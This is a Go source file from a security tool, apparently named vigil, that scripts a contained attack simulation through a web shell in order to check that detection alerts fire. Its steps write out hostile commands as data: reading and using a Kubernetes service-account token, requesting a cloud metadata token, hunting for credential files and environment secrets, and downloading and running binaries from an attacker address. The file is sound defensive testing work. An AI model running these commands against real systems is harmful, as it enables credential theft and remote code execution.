// Package simulate runs vigil's harmless attack simulation: an attacker
// drives a web shell in a victim workload through reconnaissance, lateral
// movement, secrets gathering, crypto mining, binary drift and contact with
// a threat-intelligence test domain, then checks that each step's alert
// arrived at the hub and how long it took.
//
// Where the workloads run is a Runner: LocalRunner runs them as runc
// containers on this host, each in its own network namespace; a cluster
// runner (pods in namespace vigil-simulation) implements the same interface.
// Every step is harmless: commands that would be dangerous are only
// attempted as an unprivileged web user (loading the msr module fails), the
// "miner" is a renamed copy of busybox that prints an error and exits, and
// all traffic stays inside the simulation's own namespaces.
package simulate

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
)

// Scenario names, in the order `all` runs them.
const (
	ScenarioWebShell  = "webshell"
	ScenarioRecon     = "recon"
	ScenarioLateral   = "lateral"
	ScenarioSecrets   = "secrets"
	ScenarioCrypto    = "crypto"
	ScenarioDrift     = "drift"
	ScenarioTI        = "ti"
	ScenarioTestAlert = "test-alert"
	ScenarioAll       = "all"
)

// Scenarios lists the scenario names `all` runs, in order.
func Scenarios() []string {
	return []string{ScenarioWebShell, ScenarioRecon, ScenarioLateral, ScenarioSecrets, ScenarioCrypto,
		ScenarioDrift, ScenarioTI, ScenarioTestAlert}
}

// Tools are the programs a victim has for the steps: a host tool when the
// runner found one, else "" and the step uses a built-in stand-in.
type Tools struct {
	// Curl is the path of curl inside the victim ("" : busybox wget).
	Curl string
	// Nmap is the path of nmap inside the victim ("" : the built-in
	// connection-burst scanner, NetScan).
	Nmap string
	// NetScan is the path of the built-in scanner stand-in inside the
	// victim (vigil's own binary).
	NetScan string
	// Shell is the host shell (dash or bash) the web shell runs commands
	// with; "" means busybox sh, which runs many applets (id, ls, find,
	// grep ...) inside its own process without exec, so the sensor sees
	// no exec for them and some steps' alerts cannot fire.
	Shell string
}

// busyboxApplets are the programs the steps run that busybox provides.
var busyboxApplets = []string{"id", "whoami", "uname", "hostname", "ps", "ip", "cat", "ls", "find", "head",
	"env", "grep", "modprobe", "touch", "chmod", "nslookup", "wget"}

var commandWord = regexp.MustCompile(`(^|[;|&(]\s*)([a-z][a-z0-9]*)\b`)

// absoluteApplets rewrites the programs of a command line that busybox
// provides to their path (/bin/id): busybox sh runs an applet named
// without a path inside its own process (no exec, invisible to the
// sensor), but execs one named by path.
func absoluteApplets(cmd string) string {
	return commandWord.ReplaceAllStringFunc(cmd, func(m string) string {
		sub := commandWord.FindStringSubmatch(m)
		if !slices.Contains(busyboxApplets, sub[2]) {
			return m
		}
		return sub[1] + "/bin/" + sub[2]
	})
}

// Expectation is an alert a step must raise.
type Expectation struct {
	RuleID string `json:"ruleId"`
	// DisplayName is filled from the rule catalog by Plan.
	DisplayName string `json:"displayName"`
}

// Step is one action of a scenario: a shell command delivered to the
// victim's web shell.
type Step struct {
	Scenario string        `json:"scenario"`
	Name     string        `json:"name"`
	Command  string        `json:"command"`
	Expect   []Expectation `json:"expect"`
}

// httpGet renders a download of url to out ("-" for stdout) with curl when
// the victim has it, else busybox wget. Headers are double-quoted, so the
// shell expands $(...) in them (the bearer token).
func (t Tools) httpGet(url, out string, headers ...string) string {
	if t.Curl != "" {
		var b strings.Builder
		b.WriteString(t.Curl + " -s -S -m 5")
		if strings.HasPrefix(url, "https:") {
			b.WriteString(" -k") // the stub API's certificate is self-signed
		}
		for _, h := range headers {
			b.WriteString(` -H "` + h + `"`)
		}
		if out != "-" {
			b.WriteString(" -o " + out)
		}
		b.WriteString(" '" + url + "'")
		return b.String()
	}
	var b strings.Builder
	b.WriteString("wget -q -T 5")
	for _, h := range headers {
		b.WriteString(` --header "` + h + `"`)
	}
	b.WriteString(" -O " + out + " '" + url + "'")
	return b.String()
}

// steps returns a scenario's steps; with busybox sh as the web shell's
// shell, applets are named by path so that they are really executed.
func (t Tools) steps(scenario string) []Step {
	steps := t.rawSteps(scenario)
	if t.Shell == "" {
		for i := range steps {
			steps[i].Command = absoluteApplets(steps[i].Command)
		}
	}
	return steps
}

func (t Tools) rawSteps(scenario string) []Step {
	tokenPath := "/var/run/secrets/kubernetes.io/serviceaccount/token"
	e := func(ids ...string) []Expectation {
		out := make([]Expectation, len(ids))
		for i, id := range ids {
			out[i] = Expectation{RuleID: id}
		}
		return out
	}
	switch scenario {
	case ScenarioWebShell:
		return []Step{{Scenario: scenario, Name: "run a command through the web shell as the web user",
			Command: "id; uname -a", Expect: e("vigil.node/WebShell")}}
	case ScenarioRecon:
		scan := Step{Scenario: scenario, Name: "scan the API service's subnet"}
		if t.Nmap != "" {
			scan.Command = t.Nmap + " -sT -Pn -n -T5 --max-retries 0 --host-timeout 5s -p 443,6443 " + subnetCIDR + " >/dev/null 2>&1; echo scanned"
			scan.Expect = e("vigil.node/NetworkScanningTool")
		} else {
			scan.Command = t.NetScan + " " + subnetCIDR + " 443,6443 " + apiServiceIP
			scan.Expect = e("vigil.node/NetworkFanOut")
		}
		return []Step{
			{Scenario: scenario, Name: "burst of discovery commands",
				Command: "id; whoami; uname -a; hostname; ps; ip addr; cat /etc/os-release 2>/dev/null; ls /var/run/secrets/kubernetes.io/serviceaccount",
				Expect:  e("vigil.node/ReconnaissanceBurst")},
			{Scenario: scenario, Name: "read the service-account token",
				Command: "cat " + tokenPath, Expect: e("vigil.node/ServiceAccountTokenAccess")},
			{Scenario: scenario, Name: "ask the Kubernetes API what the token may do",
				Command: t.httpGet("https://kubernetes.default.svc/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", "-",
					"Authorization: Bearer $(cat "+tokenPath+")") + " || true",
				Expect: e("vigil.node/KubernetesAPIAccess")},
			scan,
		}
	case ScenarioLateral:
		return []Step{{Scenario: scenario, Name: "request a token from the cloud metadata service (stub)",
			Command: t.httpGet("http://"+imdsIP+"/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", "-", "Metadata: true"),
			Expect:  e("vigil.node/ImdsCall")}}
	case ScenarioSecrets:
		return []Step{
			{Scenario: scenario, Name: "search the filesystem for credential files",
				Command: "find / -xdev \\( -name '*.pem' -o -name 'id_rsa' -o -name 'credentials' -o -name '*token*' \\) 2>/dev/null | head -20",
				Expect:  e("vigil.node/SecretReconnaissance")},
			{Scenario: scenario, Name: "read a cloud credential file",
				Command: "cat /var/www/.aws/credentials", Expect: e("vigil.node/SensitiveFileAccess")},
			{Scenario: scenario, Name: "grep the environment for cloud credentials",
				Command: "env | grep -E 'AWS_|AZURE_|GOOGLE_APPLICATION' || true"},
			{Scenario: scenario, Name: "read the service-account token",
				Command: "cat " + tokenPath + " >/dev/null && echo read", Expect: e("vigil.node/ServiceAccountTokenAccess")},
		}
	case ScenarioCrypto:
		return []Step{
			{Scenario: scenario, Name: "try to load the msr module with write access",
				Command: "modprobe msr allow_writes=on 2>&1 || true", Expect: e("vigil.node/CPUOptimization")},
			{Scenario: scenario, Name: "touch /etc/ld.so.preload",
				Command: "touch /etc/ld.so.preload 2>&1 || true", Expect: e("vigil.node/LdSoPreloadAccess")},
			{Scenario: scenario, Name: "download the fake miner from the attacker",
				Command: t.httpGet("http://"+attackerIP+"/xmrig", "/tmp/xmrig") + " && chmod +x /tmp/xmrig && ls -l /tmp/xmrig",
				Expect:  e("vigil.node/CryptoMinerDownload")},
			{Scenario: scenario, Name: "run the fake miner (a renamed busybox: prints an error, mines nothing)",
				Command: "/tmp/xmrig --donate-level 1 -o pool.vigil-simulation.test:3333 -u vigil-simulation -a rx/0 2>&1 || true",
				Expect:  e("vigil.node/CryptoCoinMinerArtifacts", "vigil.node/DigitalCurrencyMining")},
		}
	case ScenarioDrift:
		return []Step{{Scenario: scenario, Name: "download a binary that is not in the image and run it",
			Command: t.httpGet("http://"+attackerIP+"/kube-tool", "/tmp/kube-tool") + " && chmod +x /tmp/kube-tool && /tmp/kube-tool 2>&1; true",
			Expect:  e("vigil.node/DriftDetection", "vigil.node/DownloadAndRunCombo", "vigil.node/ExecutionFromTempDir")}}
	case ScenarioTI:
		return []Step{
			{Scenario: scenario, Name: "resolve the threat-intelligence test domain",
				Command: "nslookup " + tiDomain + " " + attackerIP + " >/dev/null 2>&1; echo resolved " + tiDomain, Expect: e("vigil.node/ThreatIntelDomain")},
			// By address: a static busybox cannot use the system resolver.
			{Scenario: scenario, Name: "connect to the threat-intelligence test address",
				Command: t.httpGet("http://"+tiIP+"/beacon", "-", "Host: "+tiDomain), Expect: e("vigil.node/ThreatIntelIP")},
		}
	case ScenarioTestAlert:
		return []Step{{Scenario: scenario, Name: "the harmless test alert",
			Command: "echo VIGIL-TEST-ALERT-7f3b", Expect: e("vigil.node/TestAlert")}}
	}
	return nil
}

// Plan returns the steps of the named scenarios (or all) for a victim with
// tools. An alert that repeats on the same container and executable is
// folded into the first one (aggregation), so an expectation already held
// by an earlier step of the plan is only checked there. names must be
// valid scenario names; names(ruleID) gives a rule's display name.
func Plan(scenarios []string, tools Tools, displayName func(ruleID string) string) ([]Step, error) {
	want := map[string]bool{}
	for _, s := range scenarios {
		if s == ScenarioAll {
			for _, n := range Scenarios() {
				want[n] = true
			}
			continue
		}
		if !slices.Contains(Scenarios(), s) {
			return nil, fmt.Errorf("unknown scenario %q: use one of %s or all", s, strings.Join(Scenarios(), ", "))
		}
		want[s] = true
	}
	if len(want) == 0 {
		return nil, fmt.Errorf("no scenario given: use one of %s or all", strings.Join(Scenarios(), ", "))
	}
	seen := map[string]bool{}
	var plan []Step
	for _, s := range Scenarios() {
		if !want[s] {
			continue
		}
		for _, st := range tools.steps(s) {
			var ex []Expectation
			for _, e := range st.Expect {
				if seen[e.RuleID] {
					continue
				}
				seen[e.RuleID] = true
				if displayName != nil {
					e.DisplayName = displayName(e.RuleID)
				}
				ex = append(ex, e)
			}
			st.Expect = ex
			plan = append(plan, st)
		}
	}
	return plan, nil
}
